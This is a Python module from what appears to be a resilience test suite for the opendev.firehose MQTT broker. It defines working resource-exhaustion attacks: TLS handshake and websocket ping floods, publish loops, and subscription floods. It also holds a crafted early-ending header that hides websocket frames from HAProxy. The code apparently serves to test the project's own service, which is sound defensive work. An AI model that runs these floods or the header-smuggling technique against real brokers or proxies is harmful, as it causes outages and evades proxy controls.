# SPDX-FileCopyrightText: the opendev.firehose authors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks at the account listeners: clients log in, and then use as many resources as they can."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import typing as t

from .. import events, frames, packets, wire
from ..attack import attack
from ..field import Field
from ..packets import V3
from ..target import Login
from .costs import chains
from .floods import KEEPALIVE

CONNECTIONS = 8
# PUBLISH packets in flight on each connection
IN_FLIGHT = 100
Do = t.Callable[[wire.Connection], t.Awaitable[None]]


async def logged_in(field: Field, login: Login, do: Do, client_id: str = "", *, reads: bool = True) -> None:
    """Do something on a connection, and on another one when it has ended."""
    while field.left:
        try:
            connection = await field.connect(login.listener, timeout=5)
        except wire.FAILURES:
            await asyncio.sleep(0.2)
            continue
        hello = packets.connect(
            V3, client_id, username=login.username, password=login.password, keepalive=KEEPALIVE, clean=not client_id
        )
        with contextlib.suppress(*wire.FAILURES):
            await wire.log_in(connection, V3, hello)
            reading = asyncio.create_task(connection.drain(field.left) if reads else field.hold())
            try:
                await asyncio.wait_for(do(connection), max(field.left, 0.1))
            finally:
                reading.cancel()
        connection.vanish()


@attack("TLS handshakes", sources=1)
async def tls_handshakes(field: Field) -> None:
    """As many as one address gets. `through` counts handshakes."""
    listener = field.target.insiders["tls"].listener

    async def shake(_number: int) -> None:
        field.tried += 1
        connection = await field.connect(listener, timeout=5)
        field.through += 1
        connection.vanish()

    await field.each(range(16), shake, at_once=16, again=True)


@attack("frames before a login", sources=1)
async def frames_before_a_login(field: Field) -> None:
    """Pings without a payload, as fast as possible, of clients that never log in. `through` counts connections."""
    listener = field.target.insiders["websockets"].listener
    ping = frames.frame(b"", frames.PING) * 2000

    async def pour(_number: int) -> None:
        connection = await field.connect(listener, timeout=5)
        field.through += 1
        try:
            while field.left:
                field.tried += 2000
                await asyncio.wait_for(connection.send_raw(ping), max(field.left, 0.1))
        finally:
            connection.vanish()

    await field.each(range(4), pour, at_once=4, again=True)


@attack("a header that ends early", forbidden=True)
async def header_that_ends_early(field: Field) -> None:
    """For brokers before 2.1 it ends at the first empty line. HAProxy sees its end only inside a ping, so all later data is one frame to it."""
    login = field.target.insiders["websockets"]
    hello = packets.connect(V3, "early", username=login.username, password=login.password)
    # There is no zero byte before the line ends, since HAProxy searches a text for line ends.
    key = bytes(next(each for each in range(1, 256) if each not in hello) for _each in range(4))
    masked = bytes(byte ^ key[0] for byte in hello)
    end = b"\r\n\r\n" + bytes([0x89, 0x7F, 0x40, *bytes(7)])
    hidden = bytes([0x82, 0x80 | len(hello)]) + key + masked + bytes([0x89, 0x80 | len(end)]) + key + end
    head = frames.upgrade(login.listener.host).replace(b"\r\n", b"\n")

    async def publish(_number: int) -> None:
        connection = await field.connect(login.listener, timeout=5, upgraded=False)
        try:
            field.tried += 1
            await connection.send_raw(head + hidden)
            if b"\x20\x02\x00\x00" in await connection.read_raw(2):
                field.through += 1
        finally:
            connection.vanish()

    await field.each(range(8), publish)


@attack("a publisher in a loop")
async def publisher_in_a_loop(field: Field) -> None:
    """At QoS 1, as fast as acknowledgements arrive. `through` counts acknowledged messages."""
    login = field.target.insiders["publisher"]
    payload = events.KEPT.ljust(64, b"x")

    async def publish(connection: wire.Connection) -> None:
        for number in itertools.count():
            batch = b"".join(
                packets.publish(V3, "zuul/loop", payload, qos=1, number=1 + (number * IN_FLIGHT + each) % 65535)
                for each in range(IN_FLIGHT)
            )
            await connection.send(batch)
            field.tried += IN_FLIGHT
            for _each in range(IN_FLIGHT):
                await connection.packet()
                field.through += 1

    await asyncio.gather(*(logged_in(field, login, publish, reads=False) for _each in range(CONNECTIONS)))


@attack("a reader that subscribes", sources=1, retained=2000)
async def reader_that_subscribes(field: Field) -> None:
    """Subscribes to all retained messages, and to topic filters that share nothing."""
    login = field.target.insiders["reader"]

    async def subscribe(connection: wire.Connection) -> None:
        for topic in itertools.chain(["#"] * 20, chains(field.random.randrange(2**30), 60)):
            field.tried += 1
            await connection.send(packets.subscribe(V3, [topic], qos=1))

    await asyncio.gather(*(logged_in(field, login, subscribe) for _each in range(CONNECTIONS)))


@attack("a reader that subscribes to thousands", sources=1, retained=2000)
async def reader_that_subscribes_to_thousands(field: Field) -> None:
    """As many topic filters in each packet as fit. `through` counts connections."""
    login = field.target.insiders["subscriber"]

    async def subscribe(connection: wire.Connection) -> None:
        field.through += 1
        for _each in range(10):
            field.tried += 4000
            await connection.send(packets.subscribe(V3, ["#"] * 4000, qos=1))
        await asyncio.sleep(1)

    await asyncio.gather(*(logged_in(field, login, subscribe) for _each in range(CONNECTIONS)))


@attack("a reader that takes nothing", sources=1)
async def reader_that_takes_nothing(field: Field) -> None:
    """Reads nothing, in as many sessions as it can have. `through` counts sessions."""
    login = field.target.insiders["hoarder"]

    def holding(number: int) -> t.Awaitable[None]:
        async def subscribe(connection: wire.Connection) -> None:
            field.tried += 1
            connection.pause()
            await connection.send(packets.subscribe(V3, ["#"], qos=1))
            await field.hold()

        return logged_in(field, login, subscribe, f"hoarder-{number}", reads=False)

    await asyncio.gather(*(holding(number) for number in range(30)))
